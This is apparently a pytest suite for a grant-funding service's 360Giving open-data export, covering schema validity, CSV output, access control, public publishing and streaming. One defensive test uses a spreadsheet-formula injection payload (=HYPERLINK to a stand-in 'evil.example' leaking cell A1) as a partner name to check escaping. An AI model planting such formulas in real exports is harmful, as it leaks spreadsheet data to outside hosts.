"""360Giving open data: the export is valid against the official schema, in JSON and CSV,
and a funder that chooses to publish serves it without a token."""

import csv
import io
import json
import random
import tracemalloc
import uuid
from pathlib import Path
from typing import Any

import asyncpg
import httpx
import pytest
from jsonschema import Draft202012Validator
from referencing import Registry
from referencing.jsonschema import DRAFT202012

from services.common.http import ServiceClient
from services.funding.opendata import giving360, repository
from services.funding.opendata.service import Export
from tests.funding.helpers import new_funder
from tests.support import Stack

SCHEMAS = Path(__file__).parent / "360giving"


class Validator:
    """The package schema, its grant $ref pointed at the local 1.4.3 grant schema (no fetching),
    checked both as annotations (the default) and with formats asserted."""

    def __init__(self) -> None:
        grant = json.loads((SCHEMAS / "360-giving-schema.json").read_text())
        package = json.loads((SCHEMAS / "360-giving-package-schema.json").read_text())
        package["properties"]["grants"]["items"]["$ref"] = grant["$id"]
        registry = Registry().with_resource(grant["$id"], DRAFT202012.create_resource(grant))
        self.validators = [
            Draft202012Validator(package, registry=registry),
            Draft202012Validator(
                package, registry=registry, format_checker=Draft202012Validator.FORMAT_CHECKER
            ),
        ]

    def iter_errors(self, package: Any) -> list[Any]:
        return [e for v in self.validators for e in v.iter_errors(package)]


@pytest.fixture(scope="module")
def validator() -> Validator:
    return Validator()


def _charity() -> str:
    return str(random.randint(1000000, 1999999))


async def test_export_is_a_valid_360giving_package(stack: Stack, validator: Validator) -> None:
    number = _charity()
    f = await new_funder(stack, org_id=f"GB-CHC-{number}", charity_number=number)
    unregistered = await stack.new_partner(f.id, name="Hillside Residents Group")
    a = await f.awarded(amount_awarded=10000001, title="Core funding for Hillside")
    b = await f.approve(
        await f.propose(partner_id=unregistered["id"], amount_awarded=1500000),
        decided_on="2030-05-01",
    )
    await f.propose()  # proposed grants are not published
    response = await stack.funding.get("/api/v1/exports/360giving", headers=f.staff)
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("application/json")
    package = response.json()
    errors = sorted(validator.iter_errors(package), key=str)
    assert not errors, [e.message for e in errors]
    assert [g["id"] for g in package["grants"]] == [a["grant_360_id"], b["grant_360_id"]]
    first, second = package["grants"]
    assert first["amountAwarded"] == 100000.01
    assert first["awardDate"] == "2030-03-01T00:00:00Z"
    assert first["currency"] == "GBP"
    assert first["plannedDates"] == [
        {"startDate": "2030-04-01T00:00:00Z", "endDate": "2033-03-31T00:00:00Z", "duration": 36}
    ]
    assert first["recipientOrganization"] == [
        {"id": f"GB-CHC-{number}", "name": f.partner["name"], "charityNumber": number}
    ]
    assert first["fundingOrganization"] == [{"id": "GB-CHC-1000001", "name": f.funder["name"]}]
    prefix = f.funder["prefix_360giving"]
    assert second["recipientOrganization"] == [
        {"id": f"{prefix}-{unregistered['id']}", "name": "Hillside Residents Group"}
    ]
    assert "kpis" not in json.dumps(package).lower()
    broken = {"grants": [{k: v for k, v in first.items() if k != "fundingOrganization"}]}
    assert validator.iter_errors(broken), "the validator must catch a missing funder"


async def test_export_as_csv(stack: Stack) -> None:
    f = await new_funder(stack)
    grant = await f.awarded(amount_awarded=10000001)
    for path, params in (
        ("/api/v1/exports/360giving", {"format": "csv"}),
        ("/api/v1/exports/360giving.csv", {}),
    ):
        response = await stack.funding.get(path, headers=f.staff, params=params)
        assert response.status_code == 200
        assert response.headers["content-type"].startswith("text/csv")
        rows = list(csv.DictReader(io.StringIO(response.text)))
        assert len(rows) == 1
        assert rows[0]["Identifier"] == grant["grant_360_id"]
        assert rows[0]["Amount Awarded"] == "100000.01"
        assert rows[0]["Recipient Org:Name"] == f.partner["name"]
        assert rows[0]["Funding Org:Name"] == f.funder["name"]


async def test_export_is_for_staff_and_only_their_funder(stack: Stack) -> None:
    f, other = await new_funder(stack), await new_funder(stack)
    await f.awarded()
    response = await stack.funding.get("/api/v1/exports/360giving", headers=f.partner_headers)
    assert response.status_code == 403
    response = await stack.funding.get("/api/v1/exports/360giving", headers=other.staff)
    assert response.status_code == 404
    assert "no awarded grants" in response.json()["message"]


async def test_export_answers_503_when_partners_service_is_down(stack: Stack) -> None:
    f = await new_funder(stack)
    await f.awarded()
    app = stack.apps["funding"]
    real = app.state.services["partners"]
    async with httpx.AsyncClient(timeout=1.0) as http:
        app.state.services["partners"] = ServiceClient(
            "partners", "http://127.0.0.1:9", http, real.tokens
        )
        try:
            response = await stack.funding.get("/api/v1/exports/360giving", headers=f.staff)
        finally:
            app.state.services["partners"] = real
    assert response.status_code == 503


async def test_published_grants_are_public_without_a_token(
    stack: Stack, validator: Validator
) -> None:
    f = await new_funder(stack)
    grant = await f.awarded()
    slug = f.funder["slug"]
    public = f"/api/v1/public/funding/{slug}/360giving"
    assert (await stack.funding.get(public)).status_code == 404
    settings = await stack.funding.get("/api/v1/funder-settings", headers=f.staff)
    assert settings.json()["publish_360giving"] is False
    response = await stack.funding.put(
        "/api/v1/funder-settings",
        headers={**f.staff, "If-Match": settings.headers["etag"]},
        json={"publish_360giving": True},
    )
    assert response.status_code == 200, response.text
    assert response.json()["public_url"] == public
    response = await stack.funding.get(public)
    assert response.status_code == 200
    package: dict[str, Any] = response.json()
    assert not list(validator.iter_errors(package))
    assert [g["id"] for g in package["grants"]] == [grant["grant_360_id"]]
    response = await stack.funding.get(public + ".csv")
    assert response.status_code == 200
    assert grant["grant_360_id"] in response.text
    response = await stack.funding.put(
        "/api/v1/funder-settings",
        headers={**f.staff, "If-Match": settings.headers["etag"]},
        json={"publish_360giving": False},
    )
    assert response.status_code == 412
    response = await stack.funding.put(
        "/api/v1/funder-settings", headers=f.staff, json={"publish_360giving": False}
    )
    assert response.status_code == 200
    assert (await stack.funding.get(public)).status_code == 404


async def test_export_streams_in_batches(stack: Stack, validator: Validator) -> None:
    """More grants than one batch: the package is whole, in award order, with no repeats."""
    f = await new_funder(stack)
    made = [await f.awarded(amount_awarded=100 + i) for i in range(7)]
    db = stack.apps["funding"].state.db
    partners = stack.apps["funding"].state.services["partners"]
    export = Export(db=db, partners=partners, funder_id=uuid.UUID(f.id), fmt="json", batch_size=2)
    chunks = [chunk async for chunk in await export.open()]
    assert len(chunks) >= 5
    package = json.loads(b"".join(chunks))
    assert not list(validator.iter_errors(package))
    assert sorted(g["id"] for g in package["grants"]) == sorted(g["grant_360_id"] for g in made)


async def test_amounts_are_written_digit_for_digit(stack: Stack) -> None:
    """Money never goes through a float: £90,071,992,547,409.93 as a float would read .94."""
    f = await new_funder(stack)
    await f.awarded(amount_awarded=9007199254740993)
    response = await stack.funding.get("/api/v1/exports/360giving", headers=f.staff)
    assert b'"amountAwarded":90071992547409.93,' in response.content


async def test_csv_cells_never_run_as_spreadsheet_formulas(stack: Stack) -> None:
    """A partner named ``=HYPERLINK(...)`` comes out as text in every CSV, the public one too."""
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    f = await new_funder(stack, name=formula)
    await f.awarded(
        title="+SUM(1,2)",
        description="-2+3 @home\tand more",
        amount_awarded=9000000,
    )
    response = await stack.funding.put(
        "/api/v1/funder-settings", headers=f.staff, json={"publish_360giving": True}
    )
    assert response.status_code == 200, response.text
    public = f"/api/v1/public/funding/{f.funder['slug']}/360giving.csv"
    for url, headers in (("/api/v1/exports/360giving.csv", f.staff), (public, {})):
        response = await stack.funding.get(url, headers=headers)
        assert response.status_code == 200, response.text
        (row,) = list(csv.DictReader(io.StringIO(response.text)))
        assert row["Recipient Org:Name"] == "'" + formula
        assert row["Title"] == "'+SUM(1,2)"
        assert row["Description"] == "'-2+3 @home\tand more"
        assert row["Amount Awarded"] == "90000.00"  # a plain number stays a number
        risky = [v for v in row.values() if v and v[0] in "=+-@\t\r"]
        assert not risky, risky


def test_shapes_kept_for_the_whole_export_are_their_own_size() -> None:
    """A cached planned term (thousands are kept) holds its ~90 bytes, not the ~4 KiB buffer
    ``orjson.dumps`` returned it in: that buffer put 20 MiB in the JSON export's peak."""
    shapes = giving360.Shapes()
    tracemalloc.start()
    try:
        kept = [
            shapes.planned(f"2020-01-{1 + i % 28:02d}", f"{2021 + i}-12-31") for i in range(1000)
        ]
        size, _ = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert len(kept) == 1000
    assert size < 512 * 1024, size


async def test_export_survives_a_lost_copy_connection(
    stack: Stack, monkeypatch: pytest.MonkeyPatch
) -> None:
    """PostgreSQL's batches come by COPY on a borrowed connection; if that connection is lost,
    the batch is read again through the session: the same bytes, no error."""
    f = await new_funder(stack)
    await f.awarded(title="Line one\nline\ttwo \\N")
    await f.awarded()
    expected = await stack.funding.get("/api/v1/exports/360giving", headers=f.staff)
    assert expected.status_code == 200
    lost = []

    async def lose(*args: Any, **kwargs: Any) -> Any:
        lost.append(1)
        raise asyncpg.exceptions.ConnectionDoesNotExistError("connection was closed")

    monkeypatch.setattr(repository, "_copied_rows", lose)
    for fmt in ("json", "csv"):
        response = await stack.funding.get(
            "/api/v1/exports/360giving", headers=f.staff, params={"format": fmt}
        )
        assert response.status_code == 200
        if fmt == "json":
            assert response.content == expected.content
    assert bool(lost) == stack.apps["funding"].state.db.is_postgres
